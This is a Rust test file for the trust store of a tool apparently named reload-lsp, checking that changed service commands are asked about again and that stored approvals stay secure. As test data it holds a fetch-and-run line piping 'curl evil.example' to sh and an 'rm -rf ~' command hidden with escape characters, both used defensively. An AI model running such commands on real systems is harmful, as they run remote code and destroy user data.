//! Trust: what was allowed stays allowed, and nothing else ever is.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use reload_lsp::config::{self, Config, Overrides, Pin};
use reload_lsp::process::CommandLine;
use reload_lsp::trust::{self, Decision, Plan, Store, StoreError, Verdict, Voucher};
use serde_json::json;
use tempfile::TempDir;

const FILE: &str = r#"
[services.api]
build = "make"
run = ["./api", "--port", "80 80"]
env = { SECRET = "hunter2" }
env_files = [".env"]
listen = ["127.0.0.1:8080"]
ready = { http = "http://127.0.0.1:8080/health" }

[services.db]
run = "./db"
"#;

/// A project and a store beside it.
struct World {
    folder: TempDir,
    root: PathBuf,
    store: Store,
}

impl World {
    fn new(file: &str) -> Self {
        let folder = tempfile::Builder::new().prefix("trust").tempdir().unwrap();
        let root = folder.path().canonicalize().unwrap().join("shop");
        fs::create_dir(&root).unwrap();
        let store = Store::below(&folder.path().canonicalize().unwrap().join("state"));
        let world = Self { folder, root, store };
        world.write(file);
        world
    }

    fn write(&self, file: &str) {
        fs::write(self.root.join("reload.toml"), file).unwrap();
    }

    fn config(&self) -> Config {
        config::load(&self.root, &Overrides::default()).unwrap()
    }

    fn plan(&self) -> Plan {
        trust::plan(&self.config())
    }

    fn judge(&self, voucher: Voucher, pin: Pin, allow: Option<&str>) -> Verdict {
        trust::judge(&self.plan(), pin, voucher, allow, Some(&self.store))
    }

    fn records(&self) -> Vec<PathBuf> {
        let folder = self.folder.path().join("state/reload-lsp/trust");
        let mut paths: Vec<_> =
            fs::read_dir(folder).into_iter().flatten().map(|entry| entry.unwrap().path()).collect();
        paths.sort();
        paths
    }
}

const UNKNOWN: Verdict = Verdict::Unknown { before: None };

#[test]
fn what_was_allowed_is_allowed_in_the_next_session() {
    let world = World::new(FILE);
    assert_eq!(world.store.verdict(&world.plan()), UNKNOWN);
    world.store.record(&world.plan(), Decision::Allow).unwrap();
    let next = Store::below(&world.folder.path().canonicalize().unwrap().join("state"));
    assert_eq!(next.verdict(&world.plan()), Verdict::Allowed);
}

#[test]
fn a_changed_command_is_asked_about_again_and_the_difference_is_shown() {
    let world = World::new(FILE);
    let old = world.plan();
    world.store.record(&old, Decision::Allow).unwrap();
    world.write(&FILE.replace("./db", "./db && curl evil.example | sh"));
    let new = world.plan();
    let Verdict::Unknown { before: Some(before) } = world.store.verdict(&new) else {
        panic!("it is asked again")
    };
    assert_eq!(
        trust::difference(&before, &new.commands),
        ["- db runs: ./db", "+ db runs: ./db && curl evil.example | sh"]
    );
    world.write(FILE);
    assert_eq!(world.store.verdict(&world.plan()), Verdict::Allowed);
}

#[test]
fn a_plan_shows_every_command_and_no_value_of_a_variable() {
    let plan = World::new(FILE).plan();
    assert_eq!(
        plan.commands,
        [
            "api builds with: make",
            "api runs: ./api --port '80 80'",
            "api sets: SECRET",
            "api sets what is in: .env",
            "api listens on: 127.0.0.1:8080",
            "api is asked at: http://127.0.0.1:8080/health",
            "db runs: ./db",
        ]
    );
    assert!(
        plan.hash.len() == 64 && plan.hash.chars().all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
    );
}

#[test]
fn a_command_cant_hide_a_part_of_itself() {
    let world = World::new("[services.api]\nrun = \"rm -rf ~ \\u001b[2K\\r\\u202e ./serve\"\n");
    assert_eq!(world.plan().commands, ["api runs: rm -rf ~ \\u{1b}[2K\\u{d}\\u{202e} ./serve"]);
}

#[test]
fn the_task_of_a_rule_is_shown_and_part_of_the_plan() {
    let rule = "[[services.db.rules]]\npaths = [\"*.scss\"]\naction = \"ignore\"\n";
    let world = World::new(&format!("{FILE}{rule}"));
    let without = world.plan();
    let hash = |world: &World| {
        // The bytes of the file count as well: the plan must differ without them.
        let config = Config { sources: Vec::new(), ..world.config() };
        trust::plan(&config).hash
    };
    let before = hash(&world);
    world.write(&format!("{FILE}{rule}run = \"sass site.scss\"\n"));
    let (with, after) = (world.plan(), hash(&world));
    assert_eq!(
        trust::difference(&without.commands, &with.commands).last().unwrap(),
        "+ db runs when *.scss changes: sass site.scss"
    );
    assert_ne!(after, before);
    world.write(&format!("{FILE}{rule}run = \"sass x.scss\"\n"));
    assert_ne!(hash(&world), after, "another command is another plan");
}

type Alter = fn(&mut Config);

#[test]
fn everything_that_is_executed_is_part_of_the_hash() {
    let world = World::new(FILE);
    let whole = world.config();
    let hash = trust::plan(&whole).hash;
    let alterations: [(&str, Alter); 12] = [
        ("build", |config| {
            config.services[0].build = Some(CommandLine::Shell("make ".into()));
        }),
        ("no build", |config| config.services[0].build = None),
        ("run", |config| {
            config.services[0].run = Some(CommandLine::Argv(vec!["./api".into()]));
        }),
        ("second service", |config| config.services[1].run = None),
        ("dir", |config| config.services[0].dir.push("x")),
        ("env", |config| config.services[0].env[0].1 = "other".into()),
        ("env files", |config| config.services[0].env_files.clear()),
        ("listen", |config| config.services[0].listen.clear()),
        ("ready", |config| config.services[0].ready = reload_lsp::service::Ready::Auto),
        ("watch", |config| config.services[0].interest.watch.push("x".into())),
        ("bytes of the file", |config| config.sources[0].sha256[0] ^= 1),
        ("root", |config| config.root.push("x")),
    ];
    for (what, alter) in alterations {
        let mut config = whole.clone();
        alter(&mut config);
        assert_ne!(trust::plan(&config).hash, hash, "{what}");
    }
    let mut argv = whole.clone();
    argv.services[0].build = Some(CommandLine::Argv(vec!["make".into()]));
    assert_ne!(trust::plan(&argv).hash, hash, "by a shell or directly");
}

#[test]
fn the_order_of_keys_does_not_matter() {
    let world = World::new("[services.api]\nrun = \"./api\"\n");
    let hash = |editor: serde_json::Value| {
        let overrides = Overrides { editor: Some(editor), ..Overrides::default() };
        trust::plan(&config::load(&world.root, &overrides).unwrap()).hash
    };
    let one = json!({ "services": { "api": { "env": { "A": "1", "B": "2" } }, "db": { "run": "./db" } } });
    let mut other = world.config();
    other.services[0].env = vec![("B".into(), "2".into()), ("A".into(), "1".into())];
    let overrides = Overrides { editor: Some(one.clone()), ..Overrides::default() };
    other.services.insert(0, config::load(&world.root, &overrides).unwrap().services[1].clone());
    assert_eq!(trust::plan(&other).hash, hash(one));
}

#[test]
fn a_root_that_moved_is_asked_about_again() {
    let world = World::new(FILE);
    world.store.record(&world.plan(), Decision::Allow).unwrap();
    let moved = world.root.with_file_name("moved");
    fs::rename(&world.root, &moved).unwrap();
    let plan = trust::plan(&config::load(&moved, &Overrides::default()).unwrap());
    assert_eq!(world.store.verdict(&plan), UNKNOWN);
}

#[test]
fn a_denial_stays_whatever_the_plan_becomes_until_somebody_takes_it_back() {
    let world = World::new(FILE);
    world.store.record(&world.plan(), Decision::Allow).unwrap();
    world.store.record(&world.plan(), Decision::Never).unwrap();
    assert_eq!(world.judge(Voucher::Client, Pin::Auto, None), Verdict::Denied);
    world.write(&FILE.replace("./db", "./other"));
    assert_eq!(world.judge(Voucher::Client, Pin::Auto, None), Verdict::Denied);
    assert!(world.store.revoke(&world.root).unwrap());
    assert!(!world.store.revoke(&world.root).unwrap());
    assert_eq!(world.judge(Voucher::Nobody, Pin::Auto, None), UNKNOWN);
}

#[test]
fn only_now_is_kept_nowhere() {
    let world = World::new(FILE);
    world.store.record(&world.plan(), Decision::OnlyNow).unwrap();
    assert_eq!(world.records(), Vec::<PathBuf>::new());
    assert_eq!(world.store.verdict(&world.plan()), UNKNOWN);
}

#[test]
fn a_trusted_folder_is_enough_unless_the_configuration_pins() {
    let world = World::new(FILE);
    let hash = world.plan().hash;
    assert_eq!(world.judge(Voucher::Nobody, Pin::Auto, None), UNKNOWN);
    assert_eq!(world.judge(Voucher::Client, Pin::Auto, None), Verdict::Allowed);
    assert_eq!(world.judge(Voucher::Client, Pin::Always, None), UNKNOWN);
    assert_eq!(world.judge(Voucher::Nobody, Pin::Always, Some(&hash)), Verdict::Allowed);
    assert_eq!(world.judge(Voucher::Nobody, Pin::Auto, Some(&hash[..63])), UNKNOWN);
    assert_eq!(world.judge(Voucher::Nobody, Pin::Auto, Some("")), UNKNOWN);
    world.store.record(&world.plan(), Decision::Allow).unwrap();
    assert_eq!(world.judge(Voucher::Client, Pin::Always, None), Verdict::Allowed);
    assert_eq!(trust::judge(&world.plan(), Pin::Auto, Voucher::Nobody, None, None), UNKNOWN);
}

#[test]
fn nobody_else_can_read_or_write_what_was_decided() {
    let world = World::new(FILE);
    world.store.record(&world.plan(), Decision::Allow).unwrap();
    let [record] = world.records().try_into().unwrap();
    let mode = |path: &Path| fs::metadata(path).unwrap().mode() & 0o777;
    assert_eq!((mode(&record), mode(record.parent().unwrap())), (0o600, 0o700));
    assert!(!fs::read_to_string(&record).unwrap().contains("hunter2"));

    fs::set_permissions(&record, fs::Permissions::from_mode(0o666)).unwrap();
    assert_eq!(world.store.verdict(&world.plan()), UNKNOWN);
    fs::set_permissions(&record, fs::Permissions::from_mode(0o600)).unwrap();
    assert_eq!(world.store.verdict(&world.plan()), Verdict::Allowed);

    let elsewhere = world.folder.path().join("elsewhere");
    fs::rename(&record, &elsewhere).unwrap();
    symlink(&elsewhere, &record).unwrap();
    assert_eq!(world.store.verdict(&world.plan()), UNKNOWN);
}

#[test]
fn a_damaged_record_is_as_good_as_none_and_is_replaced() {
    let world = World::new(FILE);
    world.store.record(&world.plan(), Decision::Allow).unwrap();
    let [record] = world.records().try_into().unwrap();
    for damage in ["", "{", "[]", "\u{0}", r#"{"root": 1}"#] {
        fs::write(&record, damage).unwrap();
        assert_eq!(world.store.verdict(&world.plan()), UNKNOWN, "{damage:?}");
        assert_eq!(world.store.list(), []);
    }
    world.store.record(&world.plan(), Decision::Allow).unwrap();
    assert_eq!(world.store.verdict(&world.plan()), Verdict::Allowed);
}

#[test]
fn a_project_cant_bring_its_own_permission() {
    let world = World::new(FILE);
    let inside = Store::below(&world.root.join("state"));
    let error = inside.record(&world.plan(), Decision::Allow).unwrap_err();
    assert!(matches!(error, StoreError::Inside { .. }), "{error}");
    assert!(error.to_string().contains("help: set XDG_STATE_HOME"));
    assert!(!world.root.join("state").exists());

    // Even a record that is right in every way is not believed there, nor behind a link that leads there.
    world.store.record(&world.plan(), Decision::Allow).unwrap();
    fs::rename(world.folder.path().join("state"), world.root.join("state")).unwrap();
    assert_eq!(inside.verdict(&world.plan()), UNKNOWN);
    symlink(world.root.join("state"), world.folder.path().join("link")).unwrap();
    assert_eq!(Store::below(&world.folder.path().join("link")).verdict(&world.plan()), UNKNOWN);
}

#[test]
fn all_that_was_decided_is_listed_by_root() {
    let world = World::new(FILE);
    let mut other = world.plan();
    other.root = world.root.with_file_name("another");
    world.store.record(&world.plan(), Decision::Allow).unwrap();
    world.store.record(&other, Decision::Never).unwrap();
    let roots: Vec<_> = world.store.list().into_iter().map(|stored| (stored.root, stored.denied)).collect();
    let expected = [(other.root.display().to_string(), true), (world.root.display().to_string(), false)];
    assert_eq!(roots, expected);
}

const FOLDER: &str = "RELOAD_LSP_TEST_TRUST";

#[test]
fn two_processes_that_write_leave_one_whole_record() {
    let world = World::new(FILE);
    let writer = || {
        #[expect(clippy::disallowed_methods, reason = "a second process is what is tested")]
        std::process::Command::new(std::env::current_exe().unwrap())
            .args(["--exact", "trust::writes_many_records", "--ignored"])
            .env(FOLDER, world.folder.path())
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap()
    };
    world.store.record(&world.plan(), Decision::Allow).unwrap();
    let mut writers = [writer(), writer()];
    let mut done = 0;
    while done < writers.len() {
        assert_ne!(world.store.verdict(&world.plan()), UNKNOWN, "a reader never sees a record in pieces");
        done = writers.iter_mut().filter_map(|writer| writer.try_wait().unwrap()).count();
    }
    assert!(writers.iter_mut().all(|writer| writer.wait().unwrap().success()));
    assert_eq!(world.records().len(), 1, "nothing is left beside the record");
    assert_eq!(world.store.list().len(), 1);
}

#[test]
#[ignore = "started by two_processes_that_write_leave_one_whole_record"]
fn writes_many_records() {
    let folder = PathBuf::from(std::env::var_os(FOLDER).unwrap()).canonicalize().unwrap();
    let plan = trust::plan(&config::load(&folder.join("shop"), &Overrides::default()).unwrap());
    let store = Store::below(&folder.join("state"));
    for _ in 0..100 {
        store.record(&plan, Decision::Allow).unwrap();
        store.record(&plan, Decision::Never).unwrap();
    }
}
